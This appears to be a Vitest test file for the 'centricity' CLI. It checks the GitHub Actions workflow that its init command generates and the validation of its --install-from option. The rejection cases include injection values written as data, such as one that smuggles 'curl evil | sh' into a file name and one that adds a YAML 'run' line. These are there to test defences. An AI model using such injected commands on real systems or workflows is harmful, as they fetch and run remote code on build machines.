import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { checkInstallSource, PUBLISHED_PACKAGE, workflowFile } from '../../src/cli/commands/init.js';
import { VERSION } from '../../src/cli/version.js';
import { InputError } from '../../src/errors.js';

interface Step {
  name?: string;
  uses?: string;
  run?: string;
  if?: string;
  with?: Record<string, unknown>;
}

const steps = (text: string): Step[] => parse(text).jobs.audit.steps;
const nothingExists = () => false;

describe('the workflow init writes', () => {
  it('runs on Node 24 with npm cached, installs the published version by default, gates, and keeps the report', () => {
    const all = steps(workflowFile());
    const setup = all.find((step) => step.uses?.startsWith('actions/setup-node@'));
    expect(setup?.with).toEqual({ 'node-version': 24, cache: 'npm', 'cache-dependency-path': '.github/workflows/centricity.yml' });
    expect(PUBLISHED_PACKAGE).toBe(`centricity@${VERSION}`);
    expect(all.find((step) => step.name === 'Install centricity')?.run).toBe(
      `npm install --global --no-audit --no-fund 'centricity@${VERSION}'\n`,
    );
    expect(all.find((step) => step.name === 'Audit')?.run).toBe(
      'centricity audit --answers centricity-answers.yaml --out centricity-report.md\n',
    );
    const page = all.find((step) => step.name === 'Web page');
    expect(page?.if).toBe('always()');
    expect(page?.run).toBe('centricity audit --answers centricity-answers.yaml --out centricity-report.html --quiet || [ $? -eq 1 ]\n');
    const upload = all.find((step) => step.uses?.startsWith('actions/upload-artifact@'));
    expect(upload?.if).toBe('always()');
    expect(upload?.with?.path).toBe('centricity-report.md\ncentricity-report.html\n');
  });

  it('installs from the source given, as YAML and the shell read it', () => {
    const from = 'git+https://github.com/owner/centricity.git#v0.1.0';
    expect(steps(workflowFile(from)).find((step) => step.name === 'Install centricity')?.run).toContain(`'${from}'`);
  });
});

describe('--install-from', () => {
  it('takes git URLs pinned to a tag or commit, tarball URLs, and tarballs inside the repository', () => {
    expect(checkInstallSource('github:owner/centricity#v0.1.0', nothingExists)).toBe('github:owner/centricity#v0.1.0');
    expect(checkInstallSource('git+https://example.com/c.git#4f2a9c1', nothingExists)).toBe('git+https://example.com/c.git#4f2a9c1');
    expect(checkInstallSource('https://example.com/centricity-0.1.0.tgz', nothingExists)).toBe('https://example.com/centricity-0.1.0.tgz');
    // npm would read "vendor/c.tgz" as a GitHub shorthand: the workflow says ./ for a file.
    expect(checkInstallSource('vendor/c.tgz', (path) => path === 'vendor/c.tgz')).toBe('./vendor/c.tgz');
    expect(checkInstallSource('./c.tgz', (path) => path === 'c.tgz')).toBe('./c.tgz');
  });

  it.each([
    ['github:owner/centricity', 'a git URL needs a tag or commit after #'],
    ['https://example.com/centricity.git', 'a git URL needs a tag or commit after #'],
    ['/home/me/centricity-0.1.0.tgz', 'a tarball must be a path inside this repository'],
    ['../centricity-0.1.0.tgz', 'a tarball must be a path inside this repository'],
    ['centricity-0.1.0.tgz', 'no such file here'],
    ['centricity@latest', 'expected a tarball (.tgz) path or URL, or a git URL'],
    ["x.tgz'; curl evil | sh; '", 'without spaces or quotes'],
    ['x.tgz\nrun: evil', 'without spaces or quotes'],
    ['', 'without spaces or quotes'],
  ])('refuses %j in one sentence: %s', (spec, reason) => {
    const attempt = () => checkInstallSource(spec, nothingExists);
    expect(attempt).toThrow(InputError);
    expect(attempt).toThrow(`--install-from ${JSON.stringify(spec)}: `);
    expect(attempt).toThrow(reason);
  });
});
